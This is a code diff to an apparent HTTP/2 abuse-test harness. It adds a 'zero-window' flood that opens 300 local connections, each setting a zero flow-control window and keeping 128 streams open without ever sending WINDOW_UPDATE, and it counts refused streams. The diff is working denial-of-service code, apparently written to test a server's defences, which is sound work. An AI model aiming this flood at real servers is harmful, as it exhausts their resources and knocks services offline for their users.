@@ -144,8 +144,74 @@ const ATTACKS = {
   },
 };
 
+/**
+ * The zero-window flood: 300 connections at once, each with SETTINGS_INITIAL_WINDOW_SIZE 0 and 128 NextIds(4096)
+ * calls kept open (each stream the server ends or resets is replaced at once), never a WINDOW_UPDATE: every answer
+ * stays in the server. A connection the server cuts is opened again. Prints the connections opened and the
+ * REFUSED_STREAM resets received.
+ */
+function zeroWindow() {
+  const settings = frame(FrameType.SETTINGS, 0, 0, Buffer.from([0, 4, 0, 0, 0, 0]));
+  const body = Buffer.from([0, 0, 0, 0, 3, 0x08, 0x80, 0x20]);
+  const call = (id) =>
+    Buffer.concat([
+      frame(FrameType.HEADERS, Flag.END_HEADERS, id, NEXT_IDS),
+      frame(FrameType.DATA, Flag.END_STREAM, id, body),
+    ]);
+  let connections = 0;
+  let refused = 0;
+  const sockets = new Set();
+  const open = () => {
+    if (Date.now() >= until) return;
+    connections++;
+    const socket = connect(port, '127.0.0.1');
+    sockets.add(socket);
+    let next = 1;
+    let input = Buffer.alloc(0);
+    const calls = (n) => {
+      const parts = [];
+      for (let i = 0; i < n && next < 2 ** 31 - 2; i++, next += 2) parts.push(call(next));
+      socket.write(Buffer.concat(parts));
+    };
+    socket.on('error', () => undefined);
+    socket.on('close', () => {
+      sockets.delete(socket);
+      open();
+    });
+    socket.on('data', (chunk) => {
+      input = input.length > 0 ? Buffer.concat([input, chunk]) : chunk;
+      let ended = 0;
+      while (input.length >= 9) {
+        const length = input.readUIntBE(0, 3);
+        if (input.length < 9 + length) break;
+        const [type, flags] = [input[3], input[4]];
+        if ((type === FrameType.HEADERS || type === FrameType.DATA) && (flags & Flag.END_STREAM) !== 0) ended++;
+        if (type === FrameType.RST_STREAM) {
+          ended++;
+          if (input.readUInt32BE(9) === ErrorCode.REFUSED_STREAM) refused++;
+        }
+        input = input.subarray(9 + length);
+      }
+      if (ended > 0) calls(ended);
+    });
+    socket.on('connect', () => {
+      socket.write(Buffer.concat([PREFACE, settings]));
+      calls(128);
+    });
+  };
+  for (let i = 0; i < 300; i++) open();
+  setTimeout(
+    () => {
+      for (const s of sockets) s.destroy();
+      process.stdout.write(`${JSON.stringify({ connections, refused })}\n`);
+      process.exit(0);
+    },
+    Math.max(0, until - Date.now()),
+  );
+}
+
 const make = ATTACKS[name];
-if (make === undefined) {
+if (make === undefined && name !== 'zero-window') {
   process.stderr.write(`abuse-attacker: no attack named ${name}; known: ${Object.keys(ATTACKS).join(', ')}\n`);
   process.exit(2);
 }
@@ -183,11 +249,15 @@ function once() {
   });
 }
 
-(async () => {
+/** The other attacks: one connection at a time, a new one whenever the server cuts the last. */
+async function oneAtATime() {
   let connections = 0;
   while (Date.now() < until) {
     connections++;
     await once();
   }
   process.stdout.write(`${JSON.stringify({ connections })}\n`);
-})();
+}
+
+if (name === 'zero-window') zeroWindow();
+else void oneAtATime();
